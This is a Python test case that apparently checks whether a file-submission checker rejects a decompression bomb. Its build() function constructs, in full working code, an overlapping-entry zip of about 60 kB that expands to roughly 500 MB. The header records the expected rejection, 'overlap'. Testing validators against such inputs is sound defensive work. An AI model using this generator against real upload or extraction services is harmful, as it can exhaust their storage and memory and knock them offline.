# /// attack
# does = "is a .zip of 60 kB whose 500 files share their bytes, and would unpack to 500 MB"
# all = ["failed"]
# says = "overlap"
# builds = true
# quick = true
# ///
"""Each file alone is honest, and no larger than a submission may be. No tool writes files that overlap, so none of
them is read."""

import struct
import zlib


def build(folder, right):
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(1 << 20)
    body = deflate.compress(content) + deflate.flush()
    size, checksum = len(content), zlib.crc32(content)
    records = []
    for number in range(500):
        name = b"%04d" % number
        facts = (20, 0, 8, 0, 0, checksum, len(body), size, len(name), 0)
        header = struct.pack("<4s5H3I2H", b"PK\x03\x04", *facts) + name
        records.append((name, facts, len(body) + len(header)))
        content = header + content
        checksum, size = zlib.crc32(content), len(content)
        body = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + body  # a stored block
    body = body[5:]
    directory = b""
    for name, facts, length in reversed(records):
        places = (0, 0, 0, 0, len(body) - length)
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, *facts, *places) + name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 500, 500, len(directory), len(body), 0)
    (folder / "alice.zip").write_bytes(body + directory + end)
    return folder / "alice.zip"
